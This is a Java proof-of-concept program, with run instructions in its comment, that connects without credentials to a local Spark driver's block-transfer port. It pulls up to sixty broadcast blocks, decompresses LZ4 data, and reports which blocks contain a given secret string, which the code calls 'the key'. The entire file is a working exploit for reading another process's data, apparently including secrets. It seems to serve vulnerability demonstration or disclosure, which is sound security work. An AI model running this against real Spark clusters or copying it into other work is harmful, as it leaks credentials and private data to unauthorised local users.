import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.apache.spark.network.TransportContext;
import org.apache.spark.network.buffer.ManagedBuffer;
import org.apache.spark.network.client.ChunkReceivedCallback;
import org.apache.spark.network.client.TransportClient;
import org.apache.spark.network.server.NoOpRpcHandler;
import org.apache.spark.network.shuffle.protocol.BlockTransferMessage;
import org.apache.spark.network.shuffle.protocol.OpenBlocks;
import org.apache.spark.network.shuffle.protocol.StreamHandle;
import org.apache.spark.network.util.MapConfigProvider;
import org.apache.spark.network.util.TransportConf;

/**
 * A local user with no secret: fetches the first broadcast blocks from a running local Spark driver's
 * port and says which hold NEEDLE (raw or LZ4-decompressed). Find the run's ports with
 * {@code ss -ltnp | grep pid=PID,}; compile and run with the jobs module's class path:
 * {@code javac -cp "jobs/target/classes:$(cat jobs/target/classpath.txt)" -d OUT FetchBlocks.java},
 * {@code java -cp "OUT:jobs/target/classes:$(cat jobs/target/classpath.txt)" FetchBlocks PORT NEEDLE}.
 */
public class FetchBlocks {
  public static void main(String[] a) throws Exception {
    int port = Integer.parseInt(a[0]);
    String needle = a[1];
    TransportConf tc = new TransportConf("shuffle", new MapConfigProvider(Map.of()));
    TransportContext ctx = new TransportContext(tc, new NoOpRpcHandler());
    TransportClient c = ctx.createClientFactory().createClient("127.0.0.1", port);
    int found = 0, fetched = 0;
    for (int n = 0; n < 60; n++) {
      String id = "broadcast_" + n + "_piece0";
      try {
        ByteBuffer resp = c.sendRpcSync(new OpenBlocks("any", "driver", new String[] {id}).toByteBuffer(), 10000);
        StreamHandle h = (StreamHandle) BlockTransferMessage.Decoder.fromByteBuffer(resp);
        CompletableFuture<byte[]> got = new CompletableFuture<>();
        c.fetchChunk(h.streamId, 0, new ChunkReceivedCallback() {
          public void onSuccess(int i, ManagedBuffer b) {
            try { ByteBuffer bb = b.nioByteBuffer(); byte[] x = new byte[bb.remaining()]; bb.get(x); got.complete(x); }
            catch (Exception e) { got.completeExceptionally(e); }
          }
          public void onFailure(int i, Throwable e) { got.completeExceptionally(e); }
        });
        byte[] bytes = got.get(10, TimeUnit.SECONDS);
        fetched++;
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        try (var in = new net.jpountz.lz4.LZ4BlockInputStream(new java.io.ByteArrayInputStream(bytes))) {
          text += new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
        } catch (Exception e) {
          // not LZ4-framed: the raw bytes only
        }
        if (text.contains(needle)) { found++; System.out.println(id + ": " + bytes.length + " bytes, holds the key"); }
      } catch (Exception e) {
        System.out.println(id + ": " + e.getClass().getSimpleName() + ": " + String.valueOf(e.getMessage()).lines().findFirst().orElse(""));
        if (n > 3 && fetched == 0) break;
      }
    }
    System.out.println("fetched " + fetched + " blocks, " + found + " holding the key");
    c.close(); ctx.close();
  }
}
